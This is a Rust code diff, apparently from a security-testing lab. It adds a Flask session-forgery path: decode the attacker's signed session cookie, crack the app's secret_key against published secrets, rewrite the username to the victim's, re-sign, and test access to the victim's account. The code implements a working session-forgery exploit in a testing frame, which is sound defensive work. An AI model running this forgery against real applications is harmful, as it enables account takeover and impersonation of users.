@@ -11,13 +11,24 @@
 //!
 //! Against a target file's app the same run looks at every cookie for the
 //! JWT and finds which claim holds the attacker's username (not always
-//! `sub`): that is the claim rewritten. Without a JWT it is not-applicable,
-//! with what the cookies are instead.
+//! `sub`): that is the claim rewritten. Without a JWT (or a Flask session,
+//! below) it is not-applicable, with what the cookies are instead.
+//!
+//! Flask's default session is the same weakness in another format: the
+//! whole session dict in the cookie, signed by itsdangerous with HMAC-SHA1
+//! under a key derived from `app.secret_key` ([`tokens::flask`]). The
+//! attacker cracks that key from the same list, swaps his username for the
+//! victim's in whichever key holds it, and re-signs with a fresh timestamp.
+
+use std::time::{SystemTime, UNIX_EPOCH};
+
+use sessionlab_browser::Browser;
 
 use crate::actors::{OwnToken, judge, log_in, own_token, probe_account, read_own_note};
 use crate::lab::{RunContext, RunError, plant_cookie};
 use crate::outcome::{Actor, Verdict};
 use crate::tokens;
+use crate::tokens::flask::FlaskSession;
 
 pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
     let mut victim = ctx.browser(Actor::Victim, "victim");
@@ -31,6 +42,9 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
 
     let mut attacker = ctx.browser(Actor::Attacker, "attacker");
     log_in(ctx, &mut attacker, &ctx.attacker).await?;
+    if let Some((cookie, session)) = flask_cookie(&attacker) {
+        return forge_flask(ctx, &cookie, &session, &note).await;
+    }
     let OwnToken {
         cookie,
         jwt,
@@ -90,6 +104,88 @@ pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
         &note,
         &format!("the key {secret:?} was on the list of published secrets"),
         "the forged token",
+    ))
+}
+
+/// The attacker's cookie that is a Flask session, if any: found by its
+/// value, whatever the app named it.
+fn flask_cookie(browser: &Browser) -> Option<(String, FlaskSession)> {
+    browser
+        .jar
+        .cookies()
+        .iter()
+        .find_map(|c| Some((c.name.clone(), tokens::flask::decode(&c.value)?)))
+}
+
+/// The Flask path: the key holding his username, the cracked `secret_key`,
+/// a session naming the victim signed with it and stamped now.
+async fn forge_flask(
+    ctx: &mut RunContext,
+    cookie: &str,
+    session: &FlaskSession,
+    note: &str,
+) -> Result<Verdict, RunError> {
+    let action = format!(
+        "logged in as {} and looked in his own cookies for a token",
+        ctx.attacker.username
+    );
+    let data = serde_json::Value::Object(session.data.clone());
+    let Some(key) = tokens::flask::identity_key(session, &ctx.attacker.username) else {
+        let evidence = format!(
+            "cookie {cookie} is a Flask signed session holding {data}, but no value is his username {:?}: it names its user some other way",
+            ctx.attacker.username
+        );
+        let step = ctx.step(Actor::Attacker, action, &evidence);
+        return Ok(Verdict::not_applicable(evidence, step));
+    };
+    ctx.step(
+        Actor::Attacker,
+        action,
+        format!(
+            "cookie {cookie} is Flask's signed session (itsdangerous, readable without a key): {data}; \"{key}\" holds his username"
+        ),
+    );
+
+    let tried = tokens::wordlist(tokens::PUBLISHED_SECRETS).count();
+    let action = format!(
+        "tried {tried} secrets published in tutorials and docs as Flask's secret_key against the cookie's HMAC-SHA1 signature (salt \"{}\"), offline",
+        tokens::flask::SALT
+    );
+    let Some(secret) = tokens::flask::crack(session, tokens::wordlist(tokens::PUBLISHED_SECRETS))
+    else {
+        let evidence = format!(
+            "none of the {tried} secrets reproduces the signature: the secret_key is on no published list"
+        );
+        let step = ctx.step(Actor::Attacker, action, &evidence);
+        return Ok(Verdict::blocked(evidence, step));
+    };
+    ctx.step(
+        Actor::Attacker,
+        action,
+        format!("secret_key {secret:?} reproduces the signature: that is the app's key"),
+    );
+
+    let mut data = session.data.clone();
+    data.insert(key.clone(), ctx.victim.username.clone().into());
+    let now = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map_or(0, |since| since.as_secs());
+    let forged = tokens::flask::sign(&data, secret.as_bytes(), now);
+    let proof = ctx.proof_url();
+    let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
+    plant_cookie(&mut forger, &proof, cookie, &forged);
+    let probe = probe_account(&mut forger, proof).await?;
+    Ok(judge(
+        ctx,
+        &format!(
+            "signed a Flask session saying \"{key}\": \"{}\" with the key, stamped now, and opened {} with it",
+            ctx.victim.username,
+            ctx.target.proof_path()
+        ),
+        &probe,
+        note,
+        &format!("the secret_key {secret:?} was on the list of published secrets"),
+        "the forged session cookie",
     ))
 }
 
